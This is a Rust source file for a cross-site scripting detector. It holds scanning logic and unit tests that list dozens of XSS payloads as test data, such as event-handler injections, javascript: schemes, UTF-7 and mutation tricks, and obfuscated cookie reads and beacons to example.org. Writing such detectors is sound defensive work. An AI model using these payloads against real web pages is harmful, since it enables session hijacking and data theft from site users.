//! Cross-site scripting: mark-up that runs or loads something, and scripts without mark-up.
//!
//! **In:** a decoded value. **Out:** hits of class `xss`.
//! **Invariant:** mark-up that runs is decisive wherever it stands; a script without mark-up (`document.cookie`, `alert(1)`) is so
//! outside of prose: people write about code.
//! **Cost:** one pass for mark-up, one for scripts, each only if a byte class or a word gives reason.

use core::cell::Cell;

use super::super::places::{Leads, Places, Set};
use super::bytes::{
    ANGLE, BACKSLASH, CONTROL, HIGH, LINE, PAREN, QUOTE, STAR, byte, has_at, is_word, pair,
};
use super::prose::is_prose;
use super::triggers::{BANG, COLON, DASHES, SCRIPT};
use super::words::Starts;
use super::xss_calls as calls;
use super::xss_html::tags;
use super::xss_script::{self as script, Context};
use super::{Class, Hits, SET_UP, Strength, View};

/// Scans one value.
pub(super) fn scan(view: &View<'_>, steps: &mut u64, hits: &mut Hits) {
    let View {
        bytes: value,
        classes,
        words,
        ..
    } = *view;
    let mut soft = None;
    if classes & ANGLE != 0 {
        soft = tags(value, view.marks & DASHES != 0, steps, hits);
    }
    if hits.is_decisive(Class::Xss) {
        return;
    }
    // What is left of `<` when a reader takes seven bits of a byte.
    if classes & PAREN != 0
        && classes & HIGH != 0
        && let Some(at) = pair(value, |a, b| a == 0xBC && matches!(b, b's' | b'S'))
        && has_at(value, at.saturating_add(1), b"script")
    {
        hits.add(Class::Xss, Strength::Decisive, at);
        return;
    }
    if classes & PAREN != 0 && view.marks & BANG != 0 {
        super::spend(steps, value.len());
        if let Some(at) = script::symbols(value) {
            hits.add(Class::Xss, Strength::Decisive, at);
            return;
        }
    }
    if classes & (PAREN | QUOTE) == PAREN | QUOTE
        && let Some(at) = script::breaks_out(value)
    {
        hits.add(Class::Xss, Strength::Decisive, at);
        return;
    }
    // A scheme's letters may be torn apart by what browsers drop.
    let torn = classes & (LINE | CONTROL | BACKSLASH) != 0 && view.marks & COLON != 0;
    if words & SCRIPT != 0 || torn {
        super::spend(steps, value.len().saturating_add(SET_UP));
        let found = scripts(view, steps, hits);
        soft = soft.or(found);
    }
    if let Some(at) = soft
        && !hits.is_decisive(Class::Xss)
    {
        super::spend(steps, value.len().saturating_mul(8));
        let strength = if is_prose(value) && script::severs(value).is_none() {
            Strength::Suspicious
        } else {
            Strength::Decisive
        };
        hits.add(Class::Xss, strength, at);
    }
}

/// Steps of a comment that a name may be followed by.
const COMMENT: usize = 72;

/// Bytes inside of which no word starts.
static INNER: Set = Set::of(b"_0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ");
/// Signs that a script may begin with.
static SIGNS: Set = Set::of(b".[{-");
/// The same, and where a comment may begin.
static SIGNS_AND_SLASH: Set = Set::of(b".[{-/");
static QUOTES: Set = Set::of(b"\"'`");

/// The first two letters of what a word may be: what `calls` lists, a handler, `url(`, a scheme that runs.
static STARTS: Starts = Starts::of(calls::LIST).and(&[
    (b"on", 0),
    (b"o<", 0),
    (b"ur", 0),
    (b"ja", 0),
    (b"vb", 0),
    (b"li", 0),
    (b"mo", 0),
    (b"da", 0),
]);

/// Whether [`word`] may find something, by its first letter and what follows: browsers drop what stands between the letters of a scheme.
fn may_begin(first: u8, second: u8) -> bool {
    let torn = (second <= b' ' || second == b'\\')
        && matches!(first | 0x20, b'j' | b'v' | b'l' | b'm' | b'd');
    torn || STARTS.may(first, second)
}

/// Scripts without mark-up; returns where one is that an author of prose could write.
fn scripts(view: &View<'_>, steps: &mut u64, hits: &mut Hits) -> Option<usize> {
    let value = view.bytes;
    // A page's own properties: nobody names a field so.
    if view.is_name && (value == b"document.cookie" || value == b"window.location") {
        hits.add(Class::Xss, Strength::Decisive, 0);
    }
    let mut soft = None;
    let quote = if view.classes & QUOTE == 0 {
        None
    } else {
        Places::of(value, &QUOTES).from(0)
    };
    let signs = if view.classes & STAR == 0 {
        &SIGNS
    } else {
        &SIGNS_AND_SLASH
    };
    let closed = Cell::new(0);
    for at in Leads::of(value, &INNER, signs) {
        let head = byte(value, at);
        let behind = byte(value, at.saturating_add(1));
        let found = match head {
            b'.' | b'[' => calls::member(value, at),
            b'{' | b'-' => {
                let previous = at.checked_sub(1).map_or(0, |at| byte(value, at));
                if is_word(previous) && previous < 0x80 {
                    None
                } else if head == b'{' {
                    calls::member(value, at)
                } else {
                    has_at(value, at, b"-moz-binding").then_some(script::Found::Certain)
                }
            }
            b'/' => {
                // What is looked at behind a name is looked for behind comments, too.
                if behind == b'*' {
                    super::spend(steps, COMMENT);
                    if *steps == 0 {
                        break;
                    }
                }
                None
            }
            _ if may_begin(head, behind) => {
                let context = Context {
                    quoted: quote.is_some_and(|quote| quote < at),
                    is_name: view.is_name,
                    closed: &closed,
                };
                word(value, at, context)
            }
            _ => None,
        };
        let Some(found) = found else {
            continue;
        };
        note(found, at, &mut soft, hits);
        if hits.is_decisive(Class::Xss) {
            break;
        }
    }
    soft
}

/// What starts with the word at `at`.
fn word(value: &[u8], at: usize, context: Context<'_>) -> Option<script::Found> {
    match byte(value, at) | 0x20 {
        b'o' => script::handler(value, at, context).or_else(|| calls::code(value, at, context)),
        b'u' => script::css_url(value, at),
        b'j' | b'v' | b'd' | b'l' | b'm' => {
            script::scheme(value, at).or_else(|| calls::code(value, at, context))
        }
        b'a' | b'b' | b'e' | b'p' | b'c' | b'f' | b's' | b'x' | b'w' | b'n' | b't' | b'i'
        | b'g' | b'h' => calls::code(value, at, context),
        _ => None,
    }
}

fn note(found: script::Found, at: usize, soft: &mut Option<usize>, hits: &mut Hits) {
    match found {
        script::Found::Certain => hits.add(Class::Xss, Strength::Decisive, at),
        script::Found::Likely => *soft = soft.or(Some(at)),
        script::Found::Odd => hits.add(Class::Xss, Strength::Suspicious, at),
        script::Found::Slight => hits.add(Class::Xss, Strength::Weak, at),
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Class, Strength, hits_of};

    fn seen(value: &str) -> Option<Strength> {
        hits_of(value.as_bytes())
            .into_iter()
            .find_map(|(class, strength)| (class == Class::Xss).then_some(strength))
    }

    #[test]
    fn mark_up_that_runs_is_decisive() {
        for value in [
            "<script>a()</script>",
            "<ScRiPt src=//example.org/a.js>",
            "<svg/onload=a()>",
            "<x onpointerrawupdate = a()>",
            "<x </onauxclick=a>",
            "<img src=x on\u{0}error=a()>",
            "<a href='java\tscript:a()'>b</a>",
            "<a href=&#106avascript:a()>b",
            "<iframe srcdoc='&lt;b&gt;'>",
            "<object data=//example.org/a.swf>",
            "<div style='width:expression(a())'>",
            "<div style='wid\\74h:1px'>",
            "<style>@import '//example.org/a.css';</style>",
            "<link rel=stylesheet href=//example.org/a.css>",
            "<base href=//example.org/>",
            "<form action=//example.org/><button>a",
            "<button formaction=a>b",
            "<svg><set attributeName=href to=a></svg>",
            "<svg><use xlink:href=data:a /></svg>",
            "<math><mtext><table><mglyph><style><!--</style>",
            "<noscript><p title=\"</noscript><img src=x onerror=a()>\">",
            "<p title='<img src=x onerror=a()>'>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=a()>\">",
            "<img name=getElementById>",
            "<form id=documentElement>",
            "</textarea><img src onerror=a()>",
            "\"'`--><!-- ]]> -->",
            "--><b>",
            "<!--[if IE]><b><![endif]-->",
            "<!DOCTYPE a [<!ENTITY b 'c'>]>",
            "<div v-html=\"a.constructor('b')()\">",
            "\u{bc}script\u{be}a()\u{bc}/script\u{be}",
            "+ADw-script+AD4-a()+ADw-/script+AD4-",
            "\" autofocus onfocus=a b=\"",
            "' formaction=a '",
            "\"style=a:expression(b) c=\"",
            "b o<x>nfocus=eval(a)",
            "<img src='//example.org/?",
            "<table background=\"https://example.org/a?",
            "</textarea>",
            "</svg:svg>",
            " <div id=1><svg>",
            "a <svg width=10>",
            "<plaintext>",
            "--><b>c</b><!--",
            "<svg><path style=\"marker-end:url(b.svg#a)\"/></svg>",
            "<img name=cookie>",
            "-->",
            "<!-- IE 6-9 -->",
            " <div id=\"3\"><!-- up to FF 13 -->",
            "<div id=3><!doctype html>",
            "<div id=3><form action=\"\" method=\"post\">",
        ] {
            assert_eq!(seen(value), Some(Strength::Decisive), "{value}");
        }
    }

    #[test]
    fn scripts_without_mark_up_are_decisive() {
        for value in [
            "javascript:a()",
            "java\nscript:a",
            "[a](javascript:b)",
            "data:text/html,a",
            "data:,<b>",
            "'-a(1)-'",
            "';a(b(1));$c='",
            "\";a.b(1)//",
            "alert(1)",
            "alert`1`",
            "(alert)(1)",
            "alert?.(1)",
            "alert.call(null,1)",
            "[1].find(alert)",
            "eval(atob('YQ=='))",
            "new Function('a')()",
            "setTimeout(a,1)",
            "import('//example.org/a.js')//",
            "x=document.cookie",
            "document/**/.cookie;",
            "document['coo'+'kie']",
            "(document)[`cookie`]",
            "top[/al/.source+/ert/.source](1)",
            "window['al'+'ert'](1)",
            "globalThis?.['a'](1)",
            "location='//example.org'",
            "location=name",
            "self.location.href='a'",
            "localStorage.getItem('a')",
            "navigator.sendBeacon('//example.org',a)",
            "[].map.call`${a}1`",
            "Set.constructor`a`",
            "a.innerHTML='<b>'",
            "{valueOf:alert}+1",
            "onerror=alert;throw 1",
            "[][(![]+[])[+[]]+(!![]+[])[+[]]]()",
            "{{constructor.constructor('a')()}}",
            "x:url(javascript:a)",
            "Reflect.apply(alert,null,[1])",
            "Array.from`1${alert}`",
            "with(document)alert(cookie)",
            "new function(){a.b(1)}",
            "what a lovely day it is today my friend ';alert(1)// and many thanks for all of it",
            "what a lovely day it is today my friend \"-alert(1)-\" and many thanks for all of it",
        ] {
            assert_eq!(seen(value), Some(Strength::Decisive), "{value}");
        }
    }

    #[test]
    fn honest_mark_up_and_words_are_none() {
        for value in [
            "<p class=\"a\">Hello <b>world</b>, <a href=\"https://example.org/?a=1&amp;b=2\">more</a></p>",
            "<img src=\"/a.png\" alt=\"a > b\" width=10>",
            "<ul style=\"margin:0;color:#333\"><li>a</ul>",
            "Anna <anna@example.org> wrote: a < b && c > d",
            "H<sub>2</sub>O and super<wbr>califragilistic",
            "<!-- describe the bug -->\n## Steps\n- [ ] one",
            "<!-- wp:paragraph -->",
            "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"a.dtd\"><plist/>",
            "<!--more-->",
            "a --> b",
            "<p>Done</p>\n<!-- a note -->\n",
            "5 <6> 7, I <3 you, ->, -->, <-",
            "JavaScript: The Good Parts",
            "online=true&once=1",
            "\"online=1\" and only=2",
            "He said: confirm (yes) or alert the team!",
            "the top. Location: Berlin",
            "Our parent company, this [one], the history [1]",
            "function of the eval (evaluation) team",
            "data: 1, 2, 3",
            "![](image.png) ![alt][ref] [](link)",
            "[[], []] and {} and !important",
            "Wow!!! (really) [sic]",
            "int[][] a = new int[3][];",
            "it's 'quoted' -- and that's (all) fine",
            "fetch the mail (daily)",
            "Tr\u{e4}ume \u{2013} sch\u{f6}n (\u{bc} Std.)",
            "{\"online\": true, \"data\": [1], \"location\": \"Berlin\"}",
            "/docs/javascript/document.cookie",
            "{{ user.name }}",
            "our new function (beta) is live",
            "<img src='/a.png' alt='b'> and more",
            "<a href=\"https://example.org/a",
            "Array.from(items) and (alert, warn)",
            "--> see there -->",
            "javascript:void(0)",
            "javascript:;",
            "<a href=\"javascript:void(0);\" class=\"more\">More</a>",
            "Use `fetch`, `--no-experimental-fetch` or [`setImmediate`][] instead of `eval`.",
            "`Function`s are objects",
            "self.name = name",
        ] {
            assert!(
                seen(value) < Some(Strength::Suspicious),
                "{value} {:?}",
                seen(value)
            );
        }
    }

    #[test]
    fn a_link_to_nowhere_hides_nothing() {
        for value in [
            "javascript:void(0)//\na()",
            "javascript:void(a())",
            "javascript:;a()",
            "c=\"javascript:\";",
            "`alert`1`",
            "x`alert` `",
            "self.name='<b>'",
            "new Function('a')()",
        ] {
            assert_eq!(seen(value), Some(Strength::Decisive), "{value}");
        }
    }

    #[test]
    fn prose_about_scripts_stays_below_the_threshold() {
        for value in [
            "<svg> or <canvas>",
            "how do I close a <form> with </form>?",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\" fill=\"none\"><path d=\"M0 0h9\"/></svg>",
            "Why is document.cookie empty when I read it from the console of my browser?",
            "When I write alert('hello') in the first line of my file nothing happens at all.",
            "You should use el.innerHTML = text only when you trust the text, otherwise set the text.",
            "<svg viewBox=\"0 0 16 16\"><title>Cart</title><path d=\"M0 0h9z\"/></svg>",
            "To draw an icon you can put an <svg width=\"10\"> element right into the page, it says here.",
        ] {
            assert!(
                seen(value) <= Some(Strength::Suspicious),
                "{value} {:?}",
                seen(value)
            );
        }
    }

    #[test]
    fn the_cost_is_linear() {
        for part in [
            "<a x=\"",
            "<a x='<b y=\"",
            "document[",
            "o<b>n",
            "alert/*",
            ".c.c",
            "this.",
            "&#",
            "<style>",
            "![]",
            "'-a(",
            "data:a",
            "on",
            "<svg ",
            "url(",
        ] {
            let spent = |times: usize| {
                let value = part.repeat(times);
                let bytes = value.as_bytes();
                let mut steps = crate::budget::MAX_STEPS;
                let view = super::View::new(super::super::Place::Query, b"q", bytes, u32::MAX);
                super::scan(&view, &mut steps, &mut super::Hits::default());
                crate::budget::MAX_STEPS.wrapping_sub(steps)
            };
            assert!(
                spent(8_000) <= spent(4_000).saturating_mul(3),
                "{part}: {} {}",
                spent(4_000),
                spent(8_000)
            );
        }
    }

    /// The `>` in UTF-7 belongs to every `<` that it is near to, and to none that it is before.
    #[test]
    fn utf7_is_closed_nearby() {
        let tag = |gap: usize| format!("+ADw-b{}+AD4-", "x".repeat(gap));
        assert_eq!(seen(&tag(0)), Some(Strength::Decisive));
        assert_eq!(seen(&tag(250)), Some(Strength::Decisive));
        assert_eq!(seen(&tag(251)), None);
        let far = "x".repeat(300);
        let first = format!("+AD4-{far} +ADw-b{far}+AD4-");
        assert_eq!(seen(&first), None);
        let last = format!("+ADw-b{far} +ADw-b{far} +ADw-b +AD4-");
        assert_eq!(seen(&last), Some(Strength::Decisive));
    }
}
